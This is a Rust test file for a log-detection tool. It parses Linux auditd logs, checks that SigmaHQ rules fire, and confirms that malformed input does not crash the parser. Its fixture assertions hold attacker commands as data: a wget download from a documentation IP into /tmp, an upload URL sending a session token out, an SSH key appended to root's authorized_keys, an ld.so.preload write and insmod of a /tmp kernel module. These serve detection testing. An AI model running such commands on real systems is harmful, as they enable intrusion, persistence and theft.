//! Linux audit logs: the fixtures (`audit.log`, enriched; `audit-node.log`, raw with node
//! names) are detected, their records merged into one event per audit event with the fields
//! checked by hand, SigmaHQ's `auditd` and Linux `process_creation` rules fire on them, and
//! hostile input (cut lines, bad hex, runaway serials) is counted, never fatal.

mod common;

use std::path::{Path, PathBuf};

use lookout::detect::RuleSet;
use lookout::event::{Event, Format};
use lookout::ingest::{IngestOptions, SkipReason, detect_format, read_file_to_vec};

fn read(name: &str) -> (Vec<Event>, u64) {
    let (events, reports) = read_file_to_vec(
        &common::fixtures("ingest").join(name),
        &IngestOptions::default(),
    );
    assert_eq!(reports.len(), 1);
    assert_eq!(reports[0].format, Some(Format::Auditd));
    assert_eq!(reports[0].events, events.len() as u64);
    (events, reports[0].count(SkipReason::BadRecord))
}

fn by_serial<'a>(events: &'a [Event], serial: &str) -> &'a Event {
    events
        .iter()
        .find(|e| e.fields.get("audit_serial").map(String::as_str) == Some(serial))
        .unwrap_or_else(|| panic!("no event with serial {serial}"))
}

#[test]
fn audit_logs_are_detected_by_content() {
    for name in ["audit.log", "audit-node.log"] {
        let path = common::fixtures("ingest").join(name);
        let head = std::fs::read(&path).unwrap();
        assert_eq!(
            detect_format("whatever.txt", &head),
            Format::Auditd,
            "{name}"
        );
    }
}

#[test]
fn records_of_one_event_become_one_event() {
    let (events, bad) = read("audit.log");
    // 85 lines: 23 audit events (10 of them process starts of 6 or 7 records), one junk line.
    assert_eq!(events.len(), 23);
    assert_eq!(bad, 1);
    let execs = events
        .iter()
        .filter(|e| e.event_id.as_deref() == Some("EXECVE"))
        .count();
    assert_eq!(execs, 10);

    // sudo wget: SYSCALL + EXECVE + CWD + 2 PATH + PROCTITLE (EOE dropped).
    let wget = by_serial(&events, "4142");
    assert_eq!(wget.process.as_deref(), Some("/usr/bin/wget"));
    assert_eq!(
        wget.command_line.as_deref(),
        Some("/usr/bin/wget http://198.51.100.23/x -O /tmp/.x")
    );
    assert_eq!(wget.pid, Some(218031));
    assert_eq!(wget.fields["ppid"], "218030");
    // The login user acts (auid), although the command ran as root.
    assert_eq!(wget.user.as_deref(), Some("deploy"));
    assert_eq!(wget.fields["UID"], "root");
    assert_eq!(wget.fields["cwd"], "/home/deploy");
    assert_eq!(wget.fields["key"], "susp_activity");
    assert_eq!(wget.fields["type"], "SYSCALL");
    assert_eq!(
        wget.fields["audit_types"],
        "SYSCALL EXECVE CWD PATH PROCTITLE"
    );
    assert_eq!(wget.fields["audit_records"], "6");
    assert_eq!(wget.fields["SYSCALL"], "execve");
    // The EXECVE's arguments own a0..; the SYSCALL's registers are kept aside.
    assert_eq!(wget.fields["a0"], "/usr/bin/wget");
    assert_eq!(wget.fields["syscall_a0"], "55d0c3a1e2f0");
    assert_eq!(wget.fields["path.0.name"], "/usr/bin/wget");
    assert_eq!(wget.fields["path.1.name"], "/lib64/ld-linux-x86-64.so.2");
    assert_eq!(wget.raw.lines().count(), 6);
    assert_eq!(
        wget.timestamp.unwrap().to_rfc3339(),
        "2026-03-03T02:36:39.230+00:00"
    );
    assert_eq!(wget.record, 31);

    // Hex-encoded arguments (spaces) decoded; interleaved with another event's records.
    let bash = by_serial(&events, "4150");
    assert_eq!(
        bash.command_line.as_deref(),
        Some(
            "bash -c echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQACQMG7b7B4gBIz4f49dDl8 root@kali >> /root/.ssh/authorized_keys"
        )
    );
    assert_eq!(bash.fields["audit_types"], "SYSCALL EXECVE CWD PROCTITLE");
    let logrotate = by_serial(&events, "4151");
    assert_eq!(
        logrotate.command_line.as_deref(),
        Some("/usr/sbin/logrotate /etc/logrotate.conf")
    );
    assert_eq!(logrotate.fields["cwd"], "/");
    // auid unset (a daemon): the uid's name.
    assert_eq!(logrotate.user.as_deref(), Some("root"));

    // An argument split in pieces (a2[0], a2[1]) is joined back.
    let exfil = by_serial(&events, "4180");
    assert_eq!(
        exfil.fields["a2"],
        format!("http://198.51.100.23/upload?session={}", "9f".repeat(40))
    );

    // The parent image comes from the parent's own process start, earlier in the file.
    let id = by_serial(&events, "4131");
    assert_eq!(id.parent_process.as_deref(), Some("/usr/bin/bash"));
    let whoami = by_serial(&events, "4191");
    assert_eq!(whoami.parent_process.as_deref(), Some("/usr/sbin/apache2"));
    assert_eq!(whoami.user.as_deref(), Some("www-data"));

    // A file written: the PATH records of the parent folder and the file.
    let preload = by_serial(&events, "4170");
    assert_eq!(preload.event_id.as_deref(), Some("SYSCALL"));
    assert_eq!(preload.fields["SYSCALL"], "openat");
    assert_eq!(preload.fields["path.1.name"], "/etc/ld.so.preload");
    assert_eq!(preload.fields["path.1.nametype"], "CREATE");
    assert_eq!(preload.command_line.as_deref(), Some("-bash"));

    // User-space records: the pairs of `msg='…'` flattened, the address and account kept.
    let failed = by_serial(&events, "4101");
    assert_eq!(failed.event_id.as_deref(), Some("USER_AUTH"));
    assert_eq!(failed.user.as_deref(), Some("webadmin"));
    assert_eq!(failed.src_ip.as_deref(), Some("203.0.113.45"));
    assert_eq!(failed.fields["res"], "failed");
    assert_eq!(failed.process.as_deref(), Some("/usr/sbin/sshd"));
    let sudo = by_serial(&events, "4140");
    assert_eq!(
        sudo.command_line.as_deref(),
        Some("/usr/bin/wget http://198.51.100.23/x -O /tmp/.x")
    );
    let add = by_serial(&events, "4162");
    assert_eq!(add.user.as_deref(), Some("deploy"));
    assert_eq!(add.fields["acct"], "sysupdate");
}

#[test]
fn raw_records_with_node_names() {
    let (events, bad) = read("audit-node.log");
    assert_eq!(events.len(), 3);
    assert_eq!(bad, 1, "the line cut by a crash");
    let insmod = by_serial(&events, "88001");
    assert_eq!(insmod.host.as_deref(), Some("db01"));
    // No enriched names: numbers stand for users, the syscall is named from the table.
    assert_eq!(insmod.user.as_deref(), Some("1000"));
    assert_eq!(insmod.fields["SYSCALL"], "execve");
    assert_eq!(insmod.command_line.as_deref(), Some("insmod /tmp/rk.ko"));
    let sysinfo = by_serial(&events, "88002");
    assert_eq!(sysinfo.fields["SYSCALL"], "sysinfo");
    assert_eq!(sysinfo.command_line.as_deref(), Some("./discover"));
}

fn sigmahq() -> Option<PathBuf> {
    common::dataset("sigmahq/rules/linux")
}

fn fired(rs: &RuleSet, events: &[Event], serial: &str) -> Vec<String> {
    let mut ids: Vec<String> = rs
        .matches(by_serial(events, serial))
        .into_iter()
        .map(|h| h.rule_id.to_string())
        .collect();
    ids.sort();
    ids
}

#[test]
fn sigmahq_auditd_and_process_creation_rules_fire() {
    let Some(linux) = sigmahq() else { return };
    let (rs, report) = RuleSet::load(
        &[linux.join("auditd"), linux.join("process_creation")],
        false,
    );
    let auditd_refused: Vec<_> = report
        .unsupported
        .iter()
        .filter(|r| r.file.contains("/auditd/"))
        .collect();
    assert!(auditd_refused.is_empty(), "{auditd_refused:?}");
    let (events, _) = read("audit.log");
    let has = |serial: &str, rule: &str| {
        let ids = fired(&rs, &events, serial);
        assert!(ids.iter().any(|i| i == rule), "{serial}: {ids:?}");
    };
    // service: auditd
    has("4170", "4b3cb710-5e83-4715-8c45-8b2b5b3e5751"); // ld.so.preload modified (PATH)
    has("4180", "cb39d16b-b3b6-4a7a-8222-1cf24b686ffc"); // wget --post-file (EXECVE)
    has("4160", "759d0d51-bc99-4b5e-9add-8f5b2c8e7512"); // useradd (SYSCALL exe)
    has("4162", "759d0d51-bc99-4b5e-9add-8f5b2c8e7512"); // ADD_USER record
    has("4190", "c0d3734d-330f-4a03-aae2-65dacc6a8222"); // execve with euid 33 (SYSCALL)
    has("4131", "9a0d8ca0-2385-4020-b6c6-cb6153ca56f3"); // `id` (EXECVE a0)
    // category: process_creation, product: linux, on the merged execve events
    has("4142", "cf610c15-ed71-46e1-bdf8-2bd1a99de6c4"); // wget -O /tmp/
    has("4191", "818f7b24-0fba-4c49-a073-8b755573b9c7"); // apache2 -> whoami (ParentImage)
    // Quiet on the ordinary: logrotate from cron, the login records.
    assert_eq!(fired(&rs, &events, "4151"), Vec::<String>::new());
    assert_eq!(fired(&rs, &events, "4125"), Vec::<String>::new());

    let (raw, _) = read("audit-node.log");
    let ids = fired(&rs, &raw, "88001");
    assert!(
        ids.iter()
            .any(|i| i == "106d7cbd-80ff-4985-b682-a7043e5acb72"),
        "insmod: {ids:?}"
    );
    let ids = fired(&rs, &raw, "88002");
    assert!(!ids.is_empty(), "sysinfo syscall: {ids:?}");
}

#[test]
fn security_datasets_audit_captures() {
    let Some(ds) = common::datasets() else {
        return;
    };
    let host = ds.join("security-datasets/datasets/atomic/linux");
    let (events, reports) = read_file_to_vec(
        &host.join("discovery/host/sh_arp_cache.zip"),
        &IngestOptions::default(),
    );
    assert_eq!(reports[0].format, Some(Format::Auditd));
    // 12 records without EOE (a forwarder dropped them): merged by serial all the same.
    assert_eq!(events.len(), 2);
    let arp = &events[0];
    assert_eq!(
        (arp.user.as_deref(), arp.pid, arp.fields["cwd"].as_str()),
        (Some("1000"), Some(1631), "/home/wardog")
    );
    assert_eq!(arp.fields["proctitle"], "arp -a");
    // Atomic T1027.001 (binary padding with dd) fires SigmaHQ's auditd rule for it.
    let Some(linux) = sigmahq() else { return };
    let (rs, _) = RuleSet::load(&[linux.join("auditd")], false);
    let (events, _) = read_file_to_vec(
        &host.join("defense_evasion/host/sh_binary_padding_dd.zip"),
        &IngestOptions::default(),
    );
    assert_eq!(events.len(), 1);
    assert_eq!(
        events[0].command_line.as_deref(),
        Some("dd if=/dev/zero bs=1 count=1")
    );
    let hits = rs.matches(&events[0]);
    assert!(
        hits.iter()
            .any(|h| &*h.rule_id == "c52a914f-3d8b-4b2a-bb75-b3991e75f8ba"),
        "{hits:?}"
    );
}

fn ingest_text(dir: &Path, name: &str, text: &[u8]) -> (Vec<Event>, u64) {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    let opts = IngestOptions {
        format: Some(Format::Auditd),
        ..IngestOptions::default()
    };
    let (events, reports) = read_file_to_vec(&path, &opts);
    let bad = reports.iter().map(|r| r.count(SkipReason::BadRecord)).sum();
    (events, bad)
}

#[test]
fn hostile_input_is_counted_not_fatal() {
    let dir = tempfile::tempdir().unwrap();
    let nasty = concat!(
        "type=EXECVE msg=audit(1700000000.1:9): argc=3 a0=ZZ a1=ABC a2=\"unterminated\n",
        "type=EXECVE msg=audit(1700000000.1:9): a0[0]=4 a0[1]=\n",
        "type=SYSCALL msg=audit(1700000000.123:\n",
        "type= msg=audit(:): \n",
        "type=PATH msg=audit(x:1): item=99999999999999999999 name=\n",
        "node= type=X\n",
        "type=SYSCALL msg=audit(1700000001.0:10): syscall=99999 arch=ffffffff pid=-5 ppid=x auid=\n",
        "type=PROCTITLE msg=audit(1700000001.0:10): proctitle=F09F\n",
        "type=USER_LOGIN msg=audit(1700000002.0:11): msg='acct=",
        "\u{e9}\u{1d}\u{1d}=\n",
    );
    let (events, bad) = ingest_text(dir.path(), "nasty.log", nasty.as_bytes());
    assert!(bad >= 3, "bad records counted: {bad}");
    assert!(!events.is_empty());
    // Bad hex is kept as written, never decoded into junk.
    let e = events
        .iter()
        .find(|e| e.fields.get("audit_serial").map(String::as_str) == Some("9"))
        .unwrap();
    assert_eq!(e.fields["a0"], "ZZ");
    assert_eq!(e.fields["a1"], "ABC");

    // One serial repeated without end: events are bounded, not one unbounded event.
    let mut flood = String::new();
    for i in 0..1000 {
        flood.push_str(&format!(
            "type=PATH msg=audit(1700000000.5:77): item={i} name=\"/tmp/f{i}\"\n"
        ));
    }
    let (events, bad) = ingest_text(dir.path(), "flood.log", flood.as_bytes());
    assert_eq!(bad, 0);
    assert!(events.len() >= 1000 / 64, "{}", events.len());
    assert!(events.iter().all(|e| e.raw.lines().count() <= 64));

    // Arbitrary bytes never panic.
    let mut junk = Vec::new();
    let mut x: u32 = 12345;
    for _ in 0..20_000 {
        x = x.wrapping_mul(1_103_515_245).wrapping_add(12345);
        let b = (x >> 16) as u8;
        junk.push(if b.is_multiple_of(7) { b'\n' } else { b });
    }
    junk.splice(0..0, b"type=SYSCALL msg=audit(1.0:1): ".iter().copied());
    let _ = ingest_text(dir.path(), "junk.log", &junk);
}
